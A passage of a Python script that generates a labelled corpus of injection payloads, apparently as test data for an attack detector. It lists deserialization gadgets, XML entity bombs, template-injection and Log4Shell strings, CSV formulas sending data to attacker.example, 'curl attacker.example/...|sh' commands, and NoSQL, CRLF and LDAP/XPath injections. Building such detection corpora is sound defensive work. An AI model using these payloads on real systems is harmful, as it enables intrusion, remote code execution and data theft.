    ("xml-billion-laughs", "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><l>&d;</l>"),
    ("xinclude-file", "<doc xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></doc>"),
    ("pickle-base64-cookie", "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("yaml-python-object", "title: Drop\ncover: !!python/object/apply:os.system ['curl attacker.example/y|sh']"),
    ("yaml-snakeyaml-gadget", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("php-unserialize-object", "O:8:\"Playlist\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("java-serialized-b64", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABdAABYXQAAWJ4"),
    ("dotnet-typename-json", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/obj\",\"autoCommit\":true}]"),
    ("proto-pollution-json", "{\"title\":\"Night Bus\",\"__proto__\":{\"isAdmin\":true}}"),
    ("proto-pollution-constructor", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("proto-pollution-query", "tags[__proto__][isEditor]=true"),
    ("proto-pollution-dotted", "metadata.__proto__.shell=/proc/self/exe"),
    ("csv-formula-track", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Royalty report\")"),
    ("plain-csv-dde", "=cmd|' /C calc'!A0"),
    ("csv-formula-plus", "+SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-formula-at", "@SUM(1+9)*cmd|' /C notepad'!Z0"),
    ("csv-formula-dash-webservice", "-2+3+WEBSERVICE(\"http://attacker.example/\"&A1)"),
    ("csv-formula-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A1:C9),\"//a\")"),
    ("plain-python-import", "__import__('os').system('id')"),
    ("node-eval-field", "require('child_process').exec('curl attacker.example/n|sh')"),
    ("plain-ssi-exec", "<!--#exec cmd=\"cat /etc/passwd\" -->"),
    ("esi-include", "<esi:include src=\"http://attacker.example/esi\"/>"),
    ("plain-jinja-math", "{{7*7}}{{config}}"),
    ("plain-jndi", "${jndi:ldap://attacker.example/a}"),
]
CODE_WRAP = [("headline", "Review: {p}"), ("shownotes", "Ep. 214 — {p}"), ("caption", "{p} © AP Photo"), ("id3", "TIT2={p}")]
CODE_PAYLOADS = [
    ("jinja-popen", "{{{{ self.__init__.__globals__.__builtins__.__import__('os').popen('{c}').read() }}}}"),
    ("log4shell", "${{jndi:ldap://{h}/{c2}}}"),
    ("freemarker", "${{\"freemarker.template.utility.Execute\"?new()(\"{c}\")}}"),
    ("spel", "#{{T(java.lang.Runtime).getRuntime().exec('{c}')}}"),
    ("mako", "${{__import__('subprocess').check_output('{c}',shell=True)}}"),
]
CODE_CMDS = ["id", "whoami", "uname -a", "cat /etc/hostname", "ls /"]
CODE_HOSTS = ["attacker.example", "x.attacker.example:1389", "203.0.113.61", "198.51.100.17:389"]


def t_code(r):
    ctx, wrap = r.choice(CODE_WRAP)
    tech, p = r.choice(CODE_PAYLOADS)
    p = p.format(c=r.choice(CODE_CMDS), h=r.choice(CODE_HOSTS), c2=r.choice(["a", "Exploit", "obj", "m"]))
    return f"{ctx}-{tech}", wrap.format(p=p)


# ---------------------------------------------------------------- nosqli
NOSQLI = [
    ("login-json-ne", "{\"username\": \"editor\", \"password\": {\"$ne\": null}}"),
    ("login-json-gt", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("query-param-ne", "password[$ne]=x"),
    ("query-param-regex", "username[$regex]=^adm&password[$ne]="),
    ("isrc-filter-regex", "{\"isrc\": {\"$regex\": \".*\"}, \"territory\": \"WW\"}"),
    ("where-js-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where-js-string-breakout", "GBUM72300123'; return true; var x='"),
    ("where-js-exfil", "'; return this.password.match(/^a/) && ''=='"),
    ("in-operator-enum", "{\"role\": {\"$in\": [\"admin\", \"editor\", \"owner\"]}}"),
    ("or-operator", "{\"$or\": [{\"published\": true}, {\"published\": {\"$exists\": true}}]}"),
    ("plain-exists", "{\"api_key\": {\"$exists\": true}}"),
    ("nin-empty", "{\"slug\": {\"$nin\": []}}"),
    ("expr-operator", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(3000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("lookup-pipeline", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"leak\"}}]"),
    ("regex-blind-prefix", "token[$regex]=^9b0&token[$options]=s"),
    ("update-set-injection", "{\"title\": \"Night Bus\", \"$set\": {\"role\": \"admin\"}}"),
    ("plain-ne", "{\"$ne\": 1}"),
    ("plain-gt", "[$gt]="),
    ("mongo-shell-where", "{$where: 'this.plays > 0 || db.getCollectionNames()'}"),
    ("couch-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"email\", \"password\"]}"),
]

# ---------------------------------------------------------------- crlf
CRLF = [
    ("log-episode-title-forge", "Ep 214\n2024-06-04 05:00:01 INFO user=admin action=delete_all_episodes status=ok"),
    ("log-crlf-forge", "Night Bus\r\n[2024-06-04T05:00:00Z] AUTH success user=root ip=127.0.0.1"),
    ("log-encoded-forge+urlenc", "Night%20Bus%0D%0A[INFO]%20payout%20approved%20account=ATTACKER-0001"),
    ("header-download-filename", "ep214.mp3\r\nSet-Cookie: session=attacker-fixed-session; Path=/"),
    ("header-redirect-location", "/feed\r\nLocation: https://attacker.example/phish"),
    ("header-response-split", "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("header-encoded-split+urlenc", "%0d%0aSet-Cookie:%20admin=1"),
    ("header-double-encoded+urlenc2", "%250d%250aX-Injected:%2520yes"),
    ("header-unicode-newline+unicode", "ep214\u560a\u560dSet-Cookie: a=b"),
    ("header-lf-only", "cover.jpg\nX-Accel-Redirect: /internal/master_files/"),
    ("mail-subject-bcc", "New episode: Night Bus\r\nBcc: everyone@lists.example, victim@example.org"),
    ("mail-from-name", "Kofi & Jess\r\nCc: subscribers-all@example.fm"),
    ("mail-body-smuggle", "Tip about the story\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example\">Verify your account</a>"),
    ("mail-to-param", "editor@example.com%0ABcc:spamlist@attacker.example"),
    ("smtp-dot-smuggle", "Thanks!\r\n.\r\nMAIL FROM:<ceo@example.com>\r\nRCPT TO:<finance@example.com>\r\nDATA\r\nWire the payment.\r\n."),
    ("srt-cue-log-forge", "12\n00:01:02,500 --> 00:01:05,120\nDrop it.\r\n127.0.0.1 - admin [04/Jun/2024:05:00:00 +0000] \"POST /admin/publish HTTP/1.1\" 200"),
    ("csv-export-row-inject", "Night Bus\",\"0.00\"\r\n\"ATTACKER\",\"99999.00"),
    ("syslog-forge", "Drop\n<34>Jun  4 05:00:00 cms sudo: editor : COMMAND=/bin/bash"),
    ("json-log-forge", "ok\"}\n{\"level\":\"info\",\"event\":\"role_change\",\"user\":\"mallory\",\"role\":\"admin\""),
    ("rss-header-cache-poison", "/rss.xml\r\nX-Forwarded-Host: attacker.example"),
    ("plain-crlf-setcookie", "\r\nSet-Cookie: x=1"),
    ("plain-encoded-crlf+urlenc", "%0d%0aLocation:%20//attacker.example"),
]
CRLF_FIELDS = ["ep{n}.mp3", "Track {n}", "LIC-2024-{n:05d}", "story-{n}"]
CRLF_INJ = [
    ("header-setcookie", "\r\nSet-Cookie: sid=fixed{n}"),
    ("log-forge", "\n{n} INFO login ok user=admin"),
    ("mail-bcc", "\r\nBcc: list{n}@attacker.example"),
]


def t_crlf(r):
    n = r.randint(1, 9999)
    tech, inj = r.choice(CRLF_INJ)
    ctx = r.choice(["filename", "title", "licence", "slug"])
    return f"{ctx}-{tech}", r.choice(CRLF_FIELDS).format(n=n) + inj.format(n=n)


# ---------------------------------------------------------------- ldap / xpath
LDAPX = [
    ("plain-ldap-wildcard", "*"),
    ("ldap-login-or-breakout", "editor)(|(uid=*"),
    ("ldap-and-true", "admin)(&)"),
    ("ldap-password-bypass", "*)(userPassword=*))(|(cn=*"),
    ("ldap-attr-enum", "jdoe)(|(memberOf=cn=admins,ou=groups,dc=newsroom,dc=example)"),
    ("ldap-blind-prefix", "*)(description=a*"),
    ("ldap-byline-lookup", "Maria O'Neill*)(objectClass=*"),
    ("ldap-nul-truncate", "admin)\u0000"),
    ("ldap-hex-escaped+hexesc", "\\2a\\29\\28uid\\3d\\2a"),
    ("plain-xpath-or", "' or '1'='1"),
    ("xpath-login-or-count", "x' or count(/*)=1 or 'a'='b"),
    ("xpath-credit-union", "Reuters'] | //user/password | //x['"),
    ("xpath-blind-substring", "' or substring(name(/*[1]),1,1)='r' or '"),
    ("xpath-string-length", "1' or string-length(//user[1]/password)>5 or '1'='2"),
    ("xpath-doc-function", "' or doc('http://attacker.example/x')/a or '"),
    ("xpath-rss-item-filter", "Ep 214\"] | //channel/*[local-name()='itunes:owner'] | //item[\""),
    ("xpath-numeric-or", "0 or 1=1"),
    ("plain-ldap-wildcard-close", "*)(|(&"),
]


def build(name, lits, tmpl, extra, rng):
    out = [(c, v) for c, v in lits]
    seen = {v for _, v in out}
    if len(seen) != len(out):
        raise SystemExit(f"duplicate literal in {name}")
    tries = 0
    while len(out) < len(lits) + extra:
        tries += 1
        if tries > 20000:
            raise SystemExit(f"template exhausted: {name}")
        c, v = tmpl(rng)
        if v in seen:
            continue
        seen.add(v)
        out.append((c, v))
    return out


CATEGORIES = [
    ("sqli", SQLI, t_sqli, 16),
    ("xss", XSS, t_xss, 16),
    ("cmdi", CMDI, t_cmdi, 16),
    ("traversal", TRAVERSAL, t_traversal, 10),
    ("ssrf", SSRF, t_ssrf, 10),
    ("code", CODE, t_code, 10),
    ("nosqli", NOSQLI, None, 0),
    ("crlf", CRLF, t_crlf, 6),
    ("ldap-xpath", LDAPX, None, 0),
]


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    stats = []
    for name, lits, tmpl, extra in CATEGORIES:
        items = build(name, lits, tmpl, extra, rng)
        stats.append((name, len(items), len(lits)))
        for cls, v in items:
            assert isinstance(v, str) and v and len(v) <= 1800, (name, v)
            if v in seen:
                raise SystemExit(f"duplicate across categories: {v!r}")
            seen.add(v)
            rows.append({"category": name, "class": cls, "label": "attack", "value": v})
    benign = Path(__file__).with_name("benign.jsonl")
    if benign.exists():
        with open(benign, encoding="utf-8") as fh:
            bvals = {json.loads(line)["value"] for line in fh}
        clash = sorted(v for v in seen if v in bvals)
        if clash:
            raise SystemExit(f"values also in benign.jsonl: {clash[:3]!r}")
    out = Path(__file__).with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for i, row in enumerate(rows, 1):
            obj = {"id": f"ha32-{i:05d}", **row}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")
    tl = 0
    for name, n, nlit in stats:
        tl += nlit
        print(f"{name:12s} {n:4d}  literals {nlit:3d}")
    print(f"{'TOTAL':12s} {len(rows):4d}  literals {tl:3d} ({100 * tl / len(rows):.0f}%)")


if __name__ == "__main__":
    main()
